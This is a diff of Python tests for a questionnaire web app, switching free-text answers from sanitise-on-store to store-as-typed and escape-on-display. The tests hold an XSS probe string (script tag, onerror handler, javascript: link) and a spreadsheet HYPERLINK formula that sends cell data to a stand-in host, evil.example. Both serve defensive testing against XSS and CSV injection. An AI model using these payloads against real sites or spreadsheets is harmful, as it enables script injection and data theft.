@@ -78,7 +78,7 @@ def test_resident_answers_checks_and_sends(client):
     response = db.session.scalar(sa.select(Response))
     answers = {(a.question_id, a.option_id, a.text) for a in response.answers}
     assert answers == {(often.id, often_ids[1], None), (matters.id, matters_ids[0], None),
-                       (matters.id, matters_ids[1], None), (other.id, None, "<p>More shade</p>")}
+                       (matters.id, matters_ids[1], None), (other.id, None, "More shade")}
 
 
 def test_change_my_answers_goes_back_to_the_filled_in_form(client):
@@ -211,20 +211,19 @@ def test_the_database_refuses_an_option_of_another_question(app):
     db.session.rollback()
 
 
-def test_hostile_html_in_free_text_is_sanitised(client):
+def test_free_text_answers_are_plain_text_stored_as_typed_and_escaped_when_shown(client):
     questionnaire = make_questionnaire()
     _often, _matters, other, often_ids, matters_ids = ids(questionnaire)
     hostile = ('<script>alert(1)</script><img src=x onerror="alert(2)"><b>Hello</b> '
                '<a href="javascript:alert(3)">link</a>')
     login(client, make_user())
     check = submit(client, URL, form_data(questionnaire, often_ids[0], matters_ids[:1], hostile, "check"))
-    assert check.status_code == 200 and "<script>" not in check.get_data(as_text=True)
+    page = check.get_data(as_text=True)
+    assert check.status_code == 200 and "<script>" not in page and "<img" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
     sent = submit(client, URL, form_data(questionnaire, often_ids[0], matters_ids[:1], hostile))
     assert sent.status_code == 302
-    stored = db.session.scalar(sa.select(Answer.text).where(Answer.question_id == other.id))
-    assert "<b>Hello</b>" in stored
-    for bad in ("<script", "alert(1)", "onerror", "javascript:", "<img"):
-        assert bad not in stored
+    assert db.session.scalar(sa.select(Answer.text).where(Answer.question_id == other.id)) == hostile
 
 
 def answer_as(user, questionnaire, often, matters, text=""):
@@ -263,7 +262,7 @@ def test_csv_export_is_anonymous_safe_and_readable_in_spreadsheets(client):
     by_person = {row[1]: row for row in rows}
     assert by_person["Every day"][2] == "Benches; Toilets"
     assert by_person["Every day"][3] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
-    assert by_person["Rarely"][3] == "공원이 좋아요 حديقة Second paragraph"
+    assert by_person["Rarely"][3] == "공원이 좋아요 <b>حديقة</b>\n\nSecond paragraph"  # as typed
     expected_order = [services.respondent_key(user, questionnaire) for user in (amira, jisoo)]
     assert [row[1] for row in rows] == [
         "Every day" if key == services.respondent_key(amira, questionnaire) else "Rarely"
